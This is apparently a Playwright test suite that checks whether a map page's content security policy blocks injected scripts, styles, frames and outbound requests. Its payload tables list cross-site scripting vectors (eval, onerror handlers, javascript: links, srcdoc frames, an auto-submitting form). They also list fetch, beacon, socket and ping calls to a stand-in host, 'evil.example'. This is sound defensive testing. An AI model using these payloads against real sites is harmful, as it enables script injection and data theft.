"""The page's security policy, tried: whatever gets into the page is shut off, the page is whole."""

from __future__ import annotations

import re
import shutil
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect

from geo.cli import main
from tests.browser.conftest import ROOT

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser

EVIL = "https://evil.example"
#: Refused where it is tried: a string is no script, no markup and no address of a script.
TRUSTED = "require-trusted-types-for"
WATCH = """window.stopped = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.stopped.push(event.effectiveDirective);
});"""
MAKE = """const put = (name, more) => {
  document.body.append(Object.assign(document.createElement(name), more)); };"""
#: What a script or a flaw might put into the open page, and the directive that is named.
INJECTED = {
    "a script of text": (
        (
            "const s = document.createElement('script');"
            "s.append(document.createTextNode('window.hit = 1')); document.body.append(s);"
        ),
        None,
    ),
    "a script's text": ("put('script', { textContent: 'window.hit = 1' });", TRUSTED),
    "a script from an address": (f"put('script', {{ src: '{EVIL}/a.js' }});", TRUSTED),
    "a script from data": ("put('script', { src: 'data:text/javascript,window.hit=1' });", TRUSTED),
    "a module": (f"import('{EVIL}/a.js').catch(() => 0);", "script-src-elem"),
    "a module from data": (
        "import('data:text/javascript,window.hit=1').catch(() => 0);",
        "script-src-elem",
    ),
    "eval": ("eval('window.hit = 1');", TRUSTED),
    "a function of text": ("new Function('window.hit = 1')();", TRUSTED),
    "a timer of text": ("setTimeout('window.hit = 1', 0);", TRUSTED),
    "a handler of text": (
        "document.body.setAttribute('onclick', 'window.hit = 1'); document.body.click();",
        TRUSTED,
    ),
    "markup with a handler": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.hit=1>');",
        TRUSTED,
    ),
    "markup in a drawing": (
        "document.querySelector('svg').innerHTML = '<a href=javascript:window.hit=1>x</a>';",
        TRUSTED,
    ),
    "a document written anew": ("document.write('<script>window.hit = 1</script>');", TRUSTED),
    "parsed markup": (
        (
            "document.body.append(document.createRange()"
            ".createContextualFragment('<script>window.hit=1</script>'));"
        ),
        TRUSTED,
    ),
    "a link that is a script": (
        (
            "put('a', { href: 'javascript:window.hit=1', id: 'bad' });"
            "document.querySelector('#bad').click();"
        ),
        "script-src-elem",
    ),
    "an address that is a script": (
        "location.href = 'javascript:window.hit=1';",
        "script-src-elem",
    ),
    "a worker": (f"new Worker('{EVIL}/a.js');", TRUSTED),
    "a worker of text": (
        "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));",
        TRUSTED,
    ),
    "a style sheet of text": (
        "put('style', { textContent: 'body { color: rgb(1, 2, 3) }' });",
        "style-src-elem",
    ),
    "a style sheet": (
        f"put('link', {{ rel: 'stylesheet', href: '{EVIL}/a.css' }});",
        "style-src-elem",
    ),
    "a style attribute": (
        "document.body.setAttribute('style', 'color: rgb(1, 2, 3)');",
        "style-src-attr",
    ),
    "an import of styles": (
        "const s = new CSSStyleSheet(); s.replaceSync('body { background: url(EVIL/a.png) }');"
        "document.adoptedStyleSheets = [s];".replace("EVIL", EVIL),
        "img-src",
    ),
    "an image": (f"put('img', {{ src: '{EVIL}/a.png' }});", "img-src"),
    "an image that is behind": (
        f"document.body.style.backgroundImage = 'url({EVIL}/a.png)';",
        "img-src",
    ),
    "a font": (f"new FontFace('x', 'url({EVIL}/a.woff2)').load().catch(() => 0);", "font-src"),
    "a sound": (f"put('audio', {{ src: '{EVIL}/a.mp3' }});", "media-src"),
    "a film": (f"put('video', {{ src: '{EVIL}/a.mp4' }});", "media-src"),
    "a plug-in": (f"put('object', {{ data: '{EVIL}/a.swf' }});", TRUSTED),
    "an embedded plug-in": (f"put('embed', {{ src: '{EVIL}/a.swf' }});", TRUSTED),
    "a request": (f"fetch('{EVIL}/').catch(() => 0);", "connect-src"),
    "a request of the old kind": (
        f"const x = new XMLHttpRequest(); x.open('GET', '{EVIL}/'); x.send();",
        "connect-src",
    ),
    "a beacon": (f"navigator.sendBeacon('{EVIL}/', 'x');", "connect-src"),
    "a stream": (f"new EventSource('{EVIL}/');", "connect-src"),
    "a socket": (f"new WebSocket('{EVIL.replace('https', 'wss')}/');", "connect-src"),
    "a ping": (
        (
            f"put('a', {{ href: '#lang=en', ping: '{EVIL}/', id: 'bad' }});"
            "document.querySelector('#bad').click();"
        ),
        "connect-src",
    ),
    "a form": (
        (
            f"put('form', {{ action: '{EVIL}/', method: 'post', id: 'bad' }});"
            "document.querySelector('#bad').submit();"
        ),
        "form-action",
    ),
    "a base": (f"put('base', {{ href: '{EVIL}/' }});", "base-uri"),
    "a frame": (f"put('iframe', {{ src: '{EVIL}/' }});", "frame-src"),
    "a frame of data": (
        "put('iframe', { src: 'data:text/html,<script>parent.hit=1</script>' });",
        "frame-src",
    ),
    "a frame of text": ("put('iframe', { srcdoc: '<script>parent.hit=1</script>' });", TRUSTED),
    "a manifest": (f"put('link', {{ rel: 'manifest', href: '{EVIL}/a.json' }});", None),
    "a page fetched early": (
        f"put('link', {{ rel: 'prefetch', href: '{EVIL}/' }});",
        "default-src",
    ),
    "a script fetched early": (
        f"put('link', {{ rel: 'preload', as: 'script', href: '{EVIL}/a.js' }});",
        "script-src-elem",
    ),
}
#: What someone might write into the file.
WRITTEN = {
    "a script": "<script>window.hit=1</script>",
    "a module": "<script type=module>window.hit=1</script>",
    "a script from an address": f"<script src='{EVIL}/a.js'></script>",
    "a style sheet": "<style>body{color:rgb(1,2,3)!important}</style>",
    "a linked style sheet": f"<link rel=stylesheet href='{EVIL}/a.css'>",
    "an image": f"<img src='{EVIL}/a.png'>",
    "an image with a handler": "<img src=data:x onerror=window.hit=1>",
    "a drawing with a handler": "<svg onload=window.hit=1></svg>",
    "a style attribute": "<p style='color:rgb(1,2,3)' id=written>x</p>",
    "a frame": f"<iframe src='{EVIL}/'></iframe>",
    "a frame of text": "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "a form that sends itself": (
        f"<form action='{EVIL}/' id=f><input autofocus onfocus=this.form.submit()></form>"
    ),
    "a base": f"<base href='{EVIL}/'>",
    "a plug-in": f"<object data='{EVIL}/a.swf'></object>",
    "a sound": f"<audio src='{EVIL}/a.mp3' autoplay></audio>",
    "another policy": (
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
        "<script>window.hit=1</script>"
    ),
}


@dataclass
class Tried:
    """A page that something is done to."""

    context: BrowserContext
    requests: list[str] = field(default_factory=list)
    said: list[str] = field(default_factory=list)

    def open(self, path: Path) -> Page:
        """Open a file and wait until it has been drawn."""
        self.context.route(re.compile("^https?://"), self._answer)
        self.context.on("console", lambda message: self.said.append(message.text))
        page = self.context.new_page()
        page.goto(f"{path.resolve().as_uri()}#lang=en")
        page.wait_for_load_state()
        return page

    def _answer(self, route: Route) -> None:
        """Only what leaves the browser comes here, not what it refuses to send."""
        self.requests.append(route.request.url)
        route.fulfill(body="window.hit = 1", content_type="text/javascript")

    def stopped(self, page: Page) -> list[str]:
        """The directives that stopped something."""
        page.wait_for_timeout(150)
        found: list[str] = page.evaluate("window.stopped")
        return found


@pytest.fixture
def tried(chromium: Browser) -> Iterator[Tried]:
    context = chromium.new_context(viewport={"width": 1280, "height": 800})
    context.add_init_script(WATCH)
    yield Tried(context)
    context.close()


def assert_whole(page: Page, shown: Tried) -> None:
    """Nothing has run or been sent, and the map still does what it should."""
    assert page.evaluate("window.hit") is None
    assert page.evaluate("getComputedStyle(document.body).color") != "rgb(1, 2, 3)"
    assert page.evaluate("document.baseURI").startswith("file:")
    assert shown.requests == []
    assert page.url.startswith("file:")
    page.evaluate("projectMap.open('usharal-airport')")
    expect(page.locator('[data-popup="usharal-airport"]')).to_be_visible()


@pytest.mark.parametrize("name", INJECTED)
def test_what_is_injected_into_the_open_page_is_shut_off(
    tried: Tried, built: Path, name: str
) -> None:
    code, directive = INJECTED[name]
    page = tried.open(built)
    page.wait_for_selector("html[data-ready=true]")
    # From a timer, since a debugger may do what the page's policy refuses.
    thrown = page.evaluate(
        f"() => new Promise((done) => setTimeout(() => {{ {MAKE} "
        f"try {{ {code} done(false) }} catch {{ done(true) }} }}))"
    )
    stopped = tried.stopped(page)
    if directive == TRUSTED:
        assert thrown or stopped
    elif directive:
        assert directive in stopped
    assert_whole(page, tried)


@pytest.mark.parametrize("where", ["<body>", "</body>"])
@pytest.mark.parametrize("name", WRITTEN)
def test_what_is_written_into_the_file_is_shut_off(
    tried: Tried, built: Path, tmp_path: Path, name: str, where: str
) -> None:
    text = built.read_text(encoding="utf-8")
    assert text.count(where) == 1
    changed = tmp_path / "map.html"
    both = {"<body>": f"<body>{WRITTEN[name]}", "</body>": f"{WRITTEN[name]}</body>"}
    changed.write_text(text.replace(where, both[where]), encoding="utf-8")
    page = tried.open(changed)
    page.wait_for_selector("html[data-ready=true]")
    assert_whole(page, tried)


def test_a_changed_program_does_not_run_and_the_drawing_is_there(
    tried: Tried, built: Path, tmp_path: Path
) -> None:
    text = built.read_text(encoding="utf-8")
    before, script, after = text.rpartition("<script>")
    changed = tmp_path / "map.html"
    changed.write_text(f"{before}{script}window.hit=1;{after}", encoding="utf-8")
    page = tried.open(changed)
    assert page.evaluate("window.hit") is None
    assert page.evaluate("window.projectMap") is None
    expect(page.locator("#static h1")).to_be_visible()
    expect(page.locator("#static .s-wide svg")).to_be_visible()
    assert tried.requests == []


def test_the_page_itself_asks_for_nothing_that_is_shut_off(tried: Tried, built: Path) -> None:
    page = tried.open(built)
    page.wait_for_selector("html[data-ready=true]")
    page.evaluate("projectMap.open('gas-pipeline')")
    for name in ("Layers", "Filters", "Share"):
        button = page.get_by_role("button", name=name, exact=False).first
        if button.count():
            button.click()
    assert tried.stopped(page) == []
    assert tried.said == []


def test_a_file_can_be_saved_from_the_page(tried: Tried, built: Path) -> None:
    page = tried.open(built)
    page.wait_for_selector("html[data-ready=true]")
    with page.expect_download() as saved:
        page.evaluate(
            """() => { const link = document.createElement("a");
            link.href = URL.createObjectURL(new Blob(["x"])); link.download = "x.csv";
            link.click(); }"""
        )
    assert saved.value.suggested_filename == "x.csv"
    assert tried.stopped(page) == []


@pytest.fixture(scope="module")
def offering(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The shipped map with an online base map on offer."""
    folder = tmp_path_factory.mktemp("offering")
    shutil.copytree(ROOT / "layers", folder / "layers")
    settings = folder / "layers" / "_map.toml"
    text = settings.read_text(encoding="utf-8")
    settings.write_text(f'basemaps = ["OpenStreetMap.Mapnik"]\n{text}', encoding="utf-8")
    assert main(["build", "--layers", str(folder / "layers"), "--output", str(folder)]) == 0
    return folder / "map.html"


def test_images_come_from_the_tile_server_that_is_offered_and_from_no_other(
    tried: Tried, offering: Path
) -> None:
    page = tried.open(offering)
    page.wait_for_selector("html[data-ready=true]")
    for host in ("https://tile.openstreetmap.org/1.png", f"{EVIL}/1.png"):
        page.evaluate("address => { new Image().src = address }", host)
    assert tried.stopped(page) == ["img-src"]
    assert tried.requests == ["https://tile.openstreetmap.org/1.png"]


def test_no_request_but_for_images_goes_to_the_tile_server(tried: Tried, offering: Path) -> None:
    page = tried.open(offering)
    page.wait_for_selector("html[data-ready=true]")
    page.evaluate("fetch('https://tile.openstreetmap.org/1.png').catch(() => 0)")
    assert tried.stopped(page) == ["connect-src"]
    assert tried.requests == []
